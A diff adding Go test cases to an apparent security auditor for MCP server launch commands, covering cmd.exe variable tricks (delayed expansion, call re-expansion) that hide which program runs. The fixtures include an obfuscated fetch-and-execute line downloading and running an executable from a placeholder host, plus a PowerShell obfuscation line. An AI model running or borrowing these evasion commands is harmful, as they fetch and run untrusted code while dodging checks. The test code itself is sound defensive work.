@@ -1299,3 +1299,28 @@ func TestAuditPowerShellConcatenation(t *testing.T) {
 		{"a member of the sum", stdio("pwsh", "-c", `& ("i"+"wr").Trim() https://x.example/a`), []string{script}, true, true},
 	})
 }
+
+// TestAuditCmdExeVariables holds a cmd.exe line's variables to being read
+// where cmd.exe reads them after setting them: delayed expansion (/v:on,
+// !NAME!) and call's second reading of %NAME%.
+func TestAuditCmdExeVariables(t *testing.T) {
+	const (
+		meta = "warn shell_meta mcp.args[1]"
+		exec = "danger shell_exec mcp.args[1]"
+	)
+	runCases(t, []auditCase{
+		{"delayed expansion", stdio("cmd", "/v:on", "/c", "set x=curl&& !x! -o a.exe https://x.example/a.exe && a.exe"), []string{
+			"danger fetch_exec mcp.args[2]", "danger shell_exec mcp.args[2]", "warn shell_meta mcp.args[2]"}, true, true},
+		{"two variables in one word", stdio("cmd", "/V:ON", "/C", "set a=n&& set b=px&& !a!!b! -y pkg"), []string{
+			"danger shell_exec mcp.args[2]", "warn shell_meta mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"quoted set", stdio("cmd", "/v", "/c", `set "x=uvx"&& !x! pkg`), []string{
+			"danger shell_exec mcp.args[2]", "warn shell_meta mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"call reads %x% again", stdio("cmd", "/c", "set x=npx&& call %x% -y pkg"), []string{exec, meta, "warn unpinned mcp.args[1]"}, true, true},
+		// Look-alikes: without /v, !x! is text; without call, %x% was read
+		// before set ran; setlocal does nothing on a command line.
+		{"no delayed expansion", stdio("cmd", "/c", "set x=npx&& !x! -y pkg"), []string{exec, meta}, false, true},
+		{"%x% read before set", stdio("cmd", "/c", "set x=npx&& %x% -y pkg"), []string{exec, meta}, false, true},
+		{"setlocal on a command line", stdio("cmd", "/c", "setlocal enabledelayedexpansion&& set x=npx&& !x! -y pkg"), []string{exec, meta}, false, true},
+		{"/v:off", stdio("cmd", "/v:off", "/c", "set x=npx&& !x! -y pkg"), []string{"danger shell_exec mcp.args[2]", "warn shell_meta mcp.args[2]"}, false, true},
+	})
+}
